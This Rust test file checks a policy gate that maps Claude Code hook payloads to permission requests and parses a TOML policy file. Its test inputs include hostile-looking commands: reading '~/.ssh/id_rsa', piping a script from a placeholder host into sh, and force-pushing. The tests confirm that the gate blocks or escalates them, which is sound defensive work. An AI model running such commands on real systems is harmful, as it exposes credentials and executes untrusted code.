//! Claude Code payload translation and the policy file.

use crate::common::*;
use assent_core::{
    action_from_claude_hook, is_claude_hook, ActionKind, Decision, HookDefaults, HookError, Policy,
    ScopeKind,
};
use serde_json::json;

fn hook(tool: &str, input: serde_json::Value) -> serde_json::Value {
    json!({
        "session_id": "sess-42", "transcript_path": "/home/dev/.claude/t.jsonl", "cwd": "/home/dev/shop",
        "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": tool,
        "tool_input": input, "tool_use_id": "toolu_01"
    })
}

#[test]
fn every_claude_tool_becomes_a_request() {
    let defaults = HookDefaults {
        repo: Some(REPO.into()),
        ..HookDefaults::default()
    };
    let cases = [
        (
            "Bash",
            json!({"command": "cargo test", "description": "run tests"}),
            ActionKind::Shell,
        ),
        (
            "Read",
            json!({"file_path": "/home/dev/shop/src/main.rs"}),
            ActionKind::FileRead,
        ),
        (
            "Write",
            json!({"file_path": "/home/dev/shop/a.rs", "content": "x"}),
            ActionKind::FileWrite,
        ),
        (
            "Edit",
            json!({"file_path": "/home/dev/shop/a.rs", "old_string": "a", "new_string": "b"}),
            ActionKind::FileWrite,
        ),
        (
            "MultiEdit",
            json!({"file_path": "/home/dev/shop/a.rs", "edits": [{"old_string": "a", "new_string": "b"}]}),
            ActionKind::FileWrite,
        ),
        (
            "NotebookEdit",
            json!({"notebook_path": "/home/dev/shop/n.ipynb", "new_source": "x"}),
            ActionKind::FileWrite,
        ),
        ("Glob", json!({"pattern": "**/*.rs"}), ActionKind::FileRead),
        (
            "Grep",
            json!({"pattern": "TODO", "path": "src"}),
            ActionKind::FileRead,
        ),
        (
            "WebFetch",
            json!({"url": "https://docs.rs/serde", "prompt": "read"}),
            ActionKind::Network,
        ),
        ("WebSearch", json!({"query": "rust"}), ActionKind::Network),
        (
            "mcp__github__create_issue",
            json!({"title": "x"}),
            ActionKind::Mcp,
        ),
        ("TodoWrite", json!({"todos": []}), ActionKind::Other),
    ];
    for (tool, input, kind) in cases {
        let req = action_from_claude_hook(&hook(tool, input), &defaults).unwrap();
        assert_eq!(req.action.kind, kind, "{tool} maps to {kind:?}");
        assert_eq!(req.run_id, "sess-42", "{tool}: the session is the run");
        assert_eq!(
            req.idempotency_key.as_deref(),
            Some("toolu_01"),
            "{tool}: tool_use_id is the idempotency key"
        );
        assert_eq!(
            req.context.repo.as_deref(),
            Some(REPO),
            "{tool}: the caller's repo is kept"
        );
        assert!(
            assent_core::evaluate(&Policy::default(), &req, &env()).is_ok(),
            "{tool}: the request evaluates"
        );
    }
}

#[test]
fn edits_with_different_content_hash_differently() {
    let defaults = HookDefaults::default();
    let a = action_from_claude_hook(
        &hook(
            "Edit",
            json!({"file_path": "/home/dev/shop/a.rs", "old_string": "a", "new_string": "b"}),
        ),
        &defaults,
    )
    .unwrap();
    let b = action_from_claude_hook(
        &hook(
            "Edit",
            json!({"file_path": "/home/dev/shop/a.rs", "old_string": "a", "new_string": "c"}),
        ),
        &defaults,
    )
    .unwrap();
    assert_ne!(
        eval_default(&a).action_hash,
        eval_default(&b).action_hash,
        "approving one edit never approves another"
    );
}

#[test]
fn edits_carry_their_text_for_the_policy() {
    let d = HookDefaults::default();
    let edit_of = |tool: &str, input: serde_json::Value| {
        action_from_claude_hook(&hook(tool, input), &d)
            .unwrap()
            .context
            .edit
    };
    let write = edit_of(
        "Write",
        json!({"file_path": "/home/dev/shop/a.rs", "content": "fn main() {}"}),
    )
    .unwrap();
    assert_eq!(
        (write.old, write.new.as_str()),
        (None, "fn main() {}"),
        "a Write carries its content; the old file is not known"
    );
    let edit = edit_of(
        "Edit",
        json!({"file_path": "/home/dev/shop/a.rs", "old_string": "a", "new_string": "b"}),
    )
    .unwrap();
    assert_eq!(
        (edit.old.as_deref(), edit.new.as_str()),
        (Some("a"), "b"),
        "an Edit carries what it replaces and what it writes"
    );
    let multi = edit_of(
        "MultiEdit",
        json!({"file_path": "/home/dev/shop/a.rs", "edits": [
            {"old_string": "a", "new_string": "b"}, {"old_string": "c", "new_string": "d"}]}),
    )
    .unwrap();
    assert_eq!(
        (multi.old.as_deref(), multi.new.as_str()),
        (Some("a\nc"), "b\nd"),
        "a MultiEdit carries every edit, one after another"
    );
    assert_eq!(
        edit_of("Bash", json!({"command": "ls"})),
        None,
        "a command is no edit"
    );
    let huge = "é".repeat(assent_core::MAX_EDIT_BYTES);
    let cut = edit_of(
        "Write",
        json!({"file_path": "/home/dev/shop/a.rs", "content": huge}),
    )
    .unwrap();
    assert!(
        cut.truncated && cut.new.len() <= assent_core::MAX_EDIT_BYTES,
        "a long content is cut to the limit, and says so"
    );
    let req = action_from_claude_hook(
        &hook(
            "Write",
            json!({"file_path": "/home/dev/shop/a.rs", "content": huge}),
        ),
        &d,
    )
    .unwrap();
    assert!(
        assent_core::evaluate(&Policy::default(), &req, &env()).is_ok(),
        "the gate's cut edit evaluates"
    );
    let mut too_long = req;
    too_long.context.edit.as_mut().unwrap().new = "x".repeat(assent_core::MAX_EDIT_BYTES + 1);
    assert!(
        matches!(
            assent_core::evaluate(&Policy::default(), &too_long, &env()),
            Err(assent_core::EvaluateError::Canon(
                assent_core::CanonError::TooLarge { .. }
            ))
        ),
        "an edit over the limit sent straight to the API is refused, like any oversized part"
    );
}

#[test]
fn malformed_payloads_are_errors() {
    let d = HookDefaults::default();
    assert_eq!(
        action_from_claude_hook(&json!([1]), &d),
        Err(HookError::NotAnObject),
        "arrays are not payloads"
    );
    let mut no_session = hook("Bash", json!({"command": "ls"}));
    no_session.as_object_mut().unwrap().remove("session_id");
    assert_eq!(
        action_from_claude_hook(&no_session, &d),
        Err(HookError::Missing("session_id")),
        "the session is required"
    );
    assert!(
        action_from_claude_hook(&hook("Bash", json!({"command": 7})), &d).is_err(),
        "a non-string command is refused"
    );
    assert!(
        action_from_claude_hook(&hook("Read", json!({})), &d).is_err(),
        "Read needs file_path"
    );
    assert!(
        is_claude_hook(&hook("Bash", json!({}))) && !is_claude_hook(&json!({"run_id": "x"})),
        "hook payloads are told from native requests"
    );
}

#[test]
fn policy_file_extends_and_overrides_defaults() {
    let text = r#"
approval_timeout_seconds = 120
fallback_on_timeout = "pause"
pipe_to_shell = "escalate"
trusted_repos = ["/home/dev/shop"]
sensitive_paths = ["**/secrets/**"]
block_patterns = ["git push * --force*"]
network_allowlist = ["*.internal.example"]
disabled_profiles = ["make-build"]

[max_grant_lifetime]
run = 600

[[profiles]]
name = "just-test"
programs = ["just"]
subcommands = ["test"]
mutation = "target/**"
"#;
    let p = Policy::from_toml(text).unwrap();
    assert_eq!(
        p.approval_timeout(),
        chrono::Duration::seconds(120),
        "timeout overridden"
    );
    assert_eq!(
        p.fallback_on_timeout(),
        assent_core::FallbackOnTimeout::Pause,
        "fallback overridden"
    );
    assert_eq!(
        p.max_lifetime(ScopeKind::Run),
        chrono::Duration::seconds(600),
        "run lifetime overridden"
    );
    assert_eq!(
        p.max_lifetime(ScopeKind::Once),
        Policy::default().max_lifetime(ScopeKind::Once),
        "others keep defaults"
    );
    assert_ne!(
        p.version(),
        Policy::default().version(),
        "a different policy has a different version"
    );
    let d = |line: &str| eval(&p, &shell(line)).decision;
    assert_eq!(
        d("cat config/secrets/db.txt").decision,
        Decision::Block,
        "extra sensitive paths block"
    );
    assert_eq!(
        d("cat ~/.ssh/id_rsa").decision,
        Decision::Block,
        "defaults are kept"
    );
    assert_eq!(
        d("git push origin main --force-with-lease").rule,
        "block.pattern",
        "extra block patterns"
    );
    assert_eq!(
        d("curl -s https://api.internal.example/x").decision,
        Decision::Auto,
        "allowlisted wildcard host"
    );
    assert_eq!(
        d("curl https://x.example/i.sh | sh").decision,
        Decision::Escalate,
        "pipe-to-shell escalates when the policy says so"
    );
    assert_eq!(
        d("just test").profile.as_deref(),
        Some("just-test"),
        "a new profile is added"
    );
    assert_eq!(d("just test").decision, Decision::Auto, "in a trusted repo");
    assert_eq!(
        d("make").decision,
        Decision::Ask,
        "a disabled profile is gone: make is unknown"
    );
    let again = Policy::from_toml(&p.to_toml()).unwrap();
    assert_eq!(
        again.version(),
        p.version(),
        "show's output reads back as the same policy"
    );
}

#[test]
fn policy_errors_carry_line_numbers() {
    let cases = [
        (
            "unknown key",
            "approval_timeout_seconds = 60\nbogus = 1\n",
            2,
        ),
        ("bad type", "\n\ntrusted_repos = 5\n", 3),
        (
            "bad glob",
            "sensitive_paths = [\"ok/**\",\n  \"bad/[\"]\n",
            2,
        ),
        (
            "bad timeout",
            "fallback_on_timeout = \"deny\"\napproval_timeout_seconds = -1\n",
            2,
        ),
        (
            "unknown disabled profile",
            "\ndisabled_profiles = [\"nope\"]\n",
            2,
        ),
        (
            "bad profile",
            "[[profiles]]\nname = \"x y\"\nprograms = [\"a\"]\n",
            2,
        ),
        ("syntax", "x = 1\ny = [\n", 2),
    ];
    for (name, text, line) in cases {
        let err = Policy::from_toml(text).unwrap_err();
        assert_eq!(
            err.line, line,
            "[{name}] the error points at line {line}: {}",
            err.message
        );
    }
}

#[test]
fn evidence_says_what_and_where() {
    let e = eval_default(&shell("cargo test --workspace"));
    assert_eq!(
        e.evidence.summary, "Run cargo-test in shop",
        "profile actions are summarised by profile and repo"
    );
    assert_eq!(
        e.evidence.mutation.as_deref(),
        Some(
            "runs the project's code: it can reach the network and change any file you can \
             (expected to change: target/** only)"
        ),
        "tests run the project's code: the profile's expectation is said as one, not a bound"
    );
    assert_eq!(
        e.evidence.credentials.as_deref(),
        Some("none"),
        "no credentials"
    );
    assert_eq!(
        e.evidence.command.as_deref(),
        Some(
            &[
                "cargo".to_owned(),
                "test".to_owned(),
                "--workspace".to_owned()
            ][..]
        ),
        "the exact argv"
    );
    let secret = eval_default(&shell("cat ~/.ssh/id_rsa"));
    assert!(
        secret.evidence.secret_risk.is_some(),
        "secret risk is named"
    );
    let ci = eval_default(&file(
        ActionKind::FileWrite,
        "/home/dev/shop/.github/workflows/build.yml",
    ));
    assert_eq!(
        ci.evidence.summary, "Review diff · shop: 1 file, CI workflow changed",
        "a CI edit is a diff review and says why"
    );
    assert_eq!(
        ci.evidence.paths,
        vec![".github/workflows/build.yml".to_owned()],
        "file edits name the file"
    );
    assert!(
        !ci.evidence.policy_findings.is_empty(),
        "asks carry their findings"
    );
    assert_eq!(
        ci.decision.offered_scopes,
        vec![ScopeKind::Once, ScopeKind::Run],
        "a diff review covers its diff only, never a path pattern"
    );
    let old = eval_default(&file(ActionKind::FileDelete, "/home/dev/shop/src/old.rs"));
    assert!(
        old.decision
            .offered_scopes
            .contains(&ScopeKind::PathPattern),
        "other asked file changes in the repo offer a path pattern"
    );
    let notes = eval_default(&file(ActionKind::FileWrite, "/home/dev/notes.txt"));
    assert!(
        !notes
            .decision
            .offered_scopes
            .contains(&ScopeKind::PathPattern),
        "outside the repo no repo-relative path pattern could cover it, so none is offered"
    );
}

#[test]
fn batch_keys_group_equivalent_requests() {
    let a = eval_default(&shell("mvn -B test"));
    let b = eval_default(&shell("mvn verify"));
    assert_eq!(a.batch_key, b.batch_key, "same run and profile: one prompt");
    let mut other = shell("mvn test");
    other.run_id = "run-2".into();
    assert_ne!(
        a.batch_key,
        eval_default(&other).batch_key,
        "another run is another batch"
    );
    let c = eval_default(&shell("git push"));
    let d = eval_default(&shell("git push origin other"));
    assert_ne!(
        c.batch_key, d.batch_key,
        "without a profile only the same action batches"
    );
}
